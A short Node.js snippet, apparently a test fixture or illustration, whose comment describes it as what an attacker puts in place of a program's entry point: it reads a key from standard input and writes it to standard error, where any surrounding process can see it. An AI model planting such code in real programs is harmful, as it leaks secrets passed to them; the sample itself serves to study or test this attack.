// What an attacker puts in the place of a program's entry: reads the key as the program would have
// read it, and says it on stderr, which is open to whatever runs.

import fs from "node:fs";

fs.writeSync(2, fs.readFileSync(0));
